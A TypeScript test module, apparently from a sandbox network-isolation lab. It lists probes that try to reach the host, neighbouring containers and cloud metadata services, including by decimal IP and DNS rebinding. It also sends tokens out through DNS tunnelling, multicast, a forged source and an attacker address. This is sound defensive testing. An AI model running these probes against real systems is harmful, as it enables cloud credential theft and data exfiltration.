import { local } from '../lab.js';
import { tunnelled } from '../sites.mjs';
import { type Attack, curl, evil6, good4, pin, py } from './attack.js';

const [gateway4, gateway6] = local.gateway;
const [outside4, outside6] = local.outside;
const [neighbour4, neighbour6] = local.neighbour;

const tcp = (what: string, address: string, ...ports: readonly number[]): readonly Attack[] =>
  ports.map((port) => ({ name: `TCP ${port} to ${what}`, script: (t) => py('tcp', address, port, t) }));
const udp = (what: string, address: string, ...ports: readonly number[]): readonly Attack[] =>
  ports.map((port) => ({ name: `UDP ${port} to ${what}`, script: (t) => py('udp', address, port, t) }));
const ping = (what: string, address: string): Attack => ({
  name: `ICMP echo to ${what}`,
  script: (t) => py('icmp', address, 0, t),
});

const host: readonly Attack[] = [
  ...tcp('the host', gateway4, 22, 53, 80, 443, 2375, 5000, 8080, 18080),
  ...tcp('the host over IPv6', gateway6, 22, 80, 443, 18080),
  ...udp('the host by its link-local address', 'fe80::1%eth0', 80),
  ...tcp("the host's other address", outside4, 22, 80, 8080),
  ...tcp("the host's other address over IPv6", outside6, 80),
  ...udp('the host', gateway4, 53, 5000),
  ...udp('the host over IPv6', gateway6, 53),
  ping('the host', gateway4),
  ping('the host over IPv6', gateway6),
  { name: 'DNS to the host', script: (t) => py('dns', gateway4, 53, `${t}.tunnel.example`, 1) },
  {
    name: 'a forwarded port at the host itself, by name',
    script: (t) => curl(`http://host.docker.internal:18080/${t}`),
  },
];

const neighbours: readonly Attack[] = [
  ...tcp('a neighbour', neighbour4, 22, 80, 443, 8080),
  ...tcp('a neighbour over IPv6', neighbour6, 80, 8080),
  ...udp('a neighbour', neighbour4, 53, 5000),
  ...udp('a neighbour over IPv6', neighbour6, 5000),
  ping('a neighbour', neighbour4),
  {
    name: 'an allowed name pinned to a neighbour',
    script: (t) => `${curl(`http://allowed.example/${t}`, pin('allowed.example', 80, neighbour4))}`,
  },
];

const metadata: readonly Attack[] = local.metadata.map((address) => ({
  name: `the metadata service at ${address}`,
  script: (t) => py('raw', address, 80, `GET /latest/${t} HTTP/1.1\\r\\nHost: metadata\\r\\n\\r\\n`),
}));

const metadataByName: readonly Attack[] = [
  { name: 'the metadata service by name', script: (t) => curl(`http://metadata.google.internal/${t}`) },
  { name: 'the metadata service as a number', script: (t) => curl(`http://2852039166/${t}`) },
  {
    name: 'a listed name that resolves to the metadata service',
    script: (t) => `for i in 1 2 3 4 5 6; do ${curl(`http://flip.example/${t}`)}; done`,
  },
  {
    name: 'a listed name that resolves to the metadata service, on a port that is open by address',
    script: (t) => `for i in 1 2 3 4 5 6; do ${curl(`http://flip.example:22/${t}`)}; done`,
  },
  {
    name: 'a listed name that resolves to everything inside',
    script: (t) =>
      `for a in 10.0.0.1 ${gateway4} 169.254.169.254 100.100.100.200; do ${curl(`http://rebind.example/${t}`, pin('rebind.example', 80, '$a'))}; done`.replaceAll(
        "'rebind.example:80:$a'",
        '"rebind.example:80:$a"',
      ),
  },
];

const everyone: readonly Attack[] = [
  { name: 'a broadcast', script: (t) => py('broadcast', '255.255.255.255', 9999, t) },
  { name: "a broadcast on the bridge's network", script: (t) => py('broadcast', '172.30.99.255', 137, t) },
  { name: 'multicast DNS on the link', script: (t) => py('multicast', '224.0.0.251', 5353, t) },
  { name: 'multicast DNS on the link over IPv6', script: (t) => py('multicast', 'ff02::fb', 5353, t) },
  { name: 'LLMNR', script: (t) => py('multicast', '224.0.0.252', 5355, t) },
  { name: 'LLMNR over IPv6', script: (t) => py('multicast', 'ff02::1:3', 5355, t) },
  { name: 'SSDP', script: (t) => py('multicast', '239.255.255.250', 1900, t) },
  { name: 'every host of the link', script: (t) => py('multicast', 'ff02::1', 9999, t) },
  { name: 'every router of the link', script: (t) => py('multicast', 'ff02::2', 9999, t) },
  { name: 'every site-local host', script: (t) => py('multicast', 'ff05::1', 9999, t) },
  {
    name: 'a group that the kernel announces',
    script: (t) => py('join_group', '239.0.0.1', 1, t),
    trace: (t) => `\xef${t.slice(-4, -1)}`,
  },
  {
    name: 'a group that the kernel announces over IPv6',
    script: (t) => py('join_group', 'ff05::1', 1, t),
    trace: (t) => t.slice(-14),
  },
];

const detours: readonly Attack[] = [
  ...tunnelled.flatMap((address) => [...tcp(`the attacker at ${address}`, address, 80, 443, 8080)]),
  {
    name: 'a forged source address over IPv6',
    script: (t) => py('forged_source', evil6, 4500, t, neighbour6),
  },
  { name: 'a datagram to a listed site', script: (t) => py('udp', good4, 4500, t) },
];

/** What only a lab shows: the host, its neighbours, metadata services, everyone on the link, and ways around. */
export const byNeighbourhood: readonly Attack[] = [
  ...host,
  ...neighbours,
  ...metadata,
  ...metadataByName,
  ...everyone,
  ...detours,
];
